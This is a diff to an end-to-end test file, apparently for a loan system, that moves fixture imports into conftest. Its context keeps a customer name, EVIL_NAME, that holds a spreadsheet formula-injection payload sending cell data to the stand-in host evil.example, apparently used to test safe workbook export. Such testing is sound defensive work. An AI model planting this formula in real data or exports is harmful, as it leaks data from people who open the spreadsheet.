@@ -11,8 +11,7 @@ from openpyxl import load_workbook
 from services.common import clock
 from tests.e2e.test_collateral import new_vin
 from tests.e2e.test_customers import register
-from tests.e2e.test_gateway import assert_problem, create_employee
-from tests.e2e.test_loans import product, staff  # noqa: F401  (module fixtures reused)
+from tests.e2e.conftest import assert_problem, create_employee
 from tests.helpers import wait_until
 
 TODAY = clock.today().isoformat()
@@ -20,7 +19,7 @@ EVIL_NAME = '=HYPERLINK("http://evil.example/?q="&A1,"點我")'
 
 
 @pytest.fixture(scope="module")
-def disbursed(staff, product):  # noqa: F811
+def disbursed(staff, product):
     """A loan to a customer with a formula for a name, taken from application to disbursement."""
     officer = staff["officer"]
     customer = register(officer, name=EVIL_NAME)[0].json()
